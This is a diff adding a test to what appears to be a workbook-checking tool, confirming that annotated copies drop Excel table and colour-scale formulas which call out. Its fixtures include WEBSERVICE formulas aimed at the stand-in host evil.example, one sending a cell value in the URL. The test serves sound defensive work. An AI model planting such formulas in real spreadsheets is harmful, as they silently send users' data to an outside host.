@@ -1060,3 +1060,50 @@ def test_a_file_name_of_any_bytes_is_text_that_can_be_stored(raw):
         assert shown == raw.decode("utf-8")
     except UnicodeDecodeError:
         assert shown == raw.decode("utf-8", "backslashreplace")
+
+
+def test_annotated_copy_drops_table_and_colour_scale_formulas_that_call_out(tmp_path):
+    """An Excel table's calculated column (Excel fills it into every row added to the table) and a
+    colour scale's values (`<cfvo type="formula">`, evaluated as the sheet is drawn) kept their
+    WEBSERVICE calls in the copy, past the checks of cells, names, validations and rules."""
+    from openpyxl.formatting.rule import ColorScaleRule
+    from openpyxl.utils import get_column_letter
+    from openpyxl.worksheet.table import Table, TableColumn, TableFormula
+
+    path = write_workbook(tmp_path / "UNEP_2024.xlsx", set_cell(valid_sheets("UNEP"), "Facilities", "D2", -5))
+    wb = load_workbook(path)
+    ws = wb["Facilities"]
+    headers = [c.value for c in ws[1]]
+    table = Table(displayName="Sites", ref=f"A1:{get_column_letter(len(headers))}{ws.max_row}")
+    table.tableColumns = [TableColumn(id=i + 1, name=str(h)) for i, h in enumerate(headers)]
+    table.tableColumns[-1].calculatedColumnFormula = TableFormula(attr_text='WEBSERVICE("https://evil.example/?t="&A2)')
+    table.tableColumns[0].totalsRowFormula = TableFormula(
+        attr_text='FILTERXML(WEBSERVICE("https://evil.example/"),"//a")'
+    )
+    table.tableColumns[3].totalsRowFormula = TableFormula(attr_text="SUM(D2:D9)")  # stays
+    ws.add_table(table)
+    ws.conditional_formatting.add(
+        "D2:D9",
+        ColorScaleRule(
+            start_type="formula",
+            start_value='WEBSERVICE("https://evil.example/cs")',
+            start_color="FF0000",
+            end_type="max",
+            end_color="00FF00",
+        ),
+    )
+    ws.conditional_formatting.add(
+        "E2:E9",
+        ColorScaleRule(start_type="formula", start_value="MIN($D$2:$D$9)", start_color="FF0000", end_type="max"),
+    )
+    wb.save(path)
+    [sub] = api.check_files([path], jobs=1)
+    out = tmp_path / "annotated.xlsx"
+    assert annotate_many([(path, sub.findings, out)])[out] == "annotated"
+    everything = b"".join(odd_files.members(out.read_bytes()).values())
+    assert b"WEBSERVICE" not in everything and b"evil.example" not in everything
+    copy = load_workbook(out)["Facilities"]
+    [kept] = copy.tables.values()
+    assert [c.totalsRowFormula.attr_text for c in kept.tableColumns if c.totalsRowFormula] == ["SUM(D2:D9)"]
+    scales = [rule.colorScale.cfvo[0].val for cf in copy.conditional_formatting for rule in cf.rules]
+    assert scales == ["MIN($D$2:$D$9)"]  # the focal point's own scale stays
